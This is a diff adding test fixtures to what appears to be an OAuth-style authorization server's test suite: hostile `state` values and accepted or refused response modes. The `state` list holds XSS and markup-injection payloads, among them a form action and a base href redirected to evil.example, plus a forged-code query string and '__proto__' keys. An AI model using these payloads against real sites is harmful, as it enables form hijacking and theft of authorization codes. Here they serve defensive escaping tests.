@@ -490,6 +490,43 @@ export const HOSTILE_REPETITIONS: readonly { readonly input: string; readonly wh
   { input: repeated('\u0301', 'x'), what: 'combining marks' },
 ];
 
+/** Values of `state`, which the page that posts an answer repeats. The shop gets each as it sent it. */
+export const POSTED_STATES: InputKind = {
+  understood: [
+    '"><script>alert(1)</script>',
+    '"></form><form action="https://evil.example/"><input name="',
+    '</title></head><base href="https://evil.example/">',
+    "' autofocus onfocus=alert(1) x='",
+    '&quot;&lt;&#34;&amp',
+    '?lit$1234$<!--?lit$-->',
+    '{vendor} {{state}} $& $1',
+    '\u202egnp.elpmaxe\u2066 \u2028',
+    'a+b %2B&code=forged;iss=x',
+  ].map((state) => ({ input: state, value: state, what: 'markup, or what a form encodes' })),
+  refused: [],
+};
+
+/** Response modes, and which of ours each is. */
+export const RESPONSE_MODES_ASKED: InputKind = {
+  understood: [
+    { input: 'query', value: 'query', what: 'the default of a code' },
+    { input: 'fragment', value: 'fragment', what: 'a code for a page' },
+    { input: 'form_post', value: 'form_post', what: 'a form' },
+  ],
+  refused: [
+    'FORM_POST',
+    'form_post ',
+    'form_post.jwt',
+    'jwt',
+    'query.jwt',
+    'web_message.jwt',
+    'form_post query',
+    'constructor',
+    '__proto__',
+    'okta_post_message',
+  ].map((mode) => ({ input: mode, refusal: 'unsupported_response_mode', what: 'none that we have' })),
+};
+
 type Headers = Readonly<Record<string, string>>;
 
 /**
